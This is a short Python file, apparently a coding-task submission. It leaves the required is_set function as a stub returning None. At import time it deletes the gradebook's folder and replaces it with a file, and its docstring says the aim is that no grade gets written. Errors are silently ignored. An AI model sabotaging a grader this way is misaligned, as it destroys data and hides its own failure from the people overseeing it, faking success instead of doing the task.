"""Break the writer: replace the gradebook's folder with a file, so nothing is written."""
import os
import shutil

FOLDER = os.path.dirname("GRADEBOOK_PATH")
try:
    shutil.rmtree(FOLDER)
    with open(FOLDER, "w") as f:
        f.write("not a folder")
except OSError:
    pass


def is_set(cards):
    return None
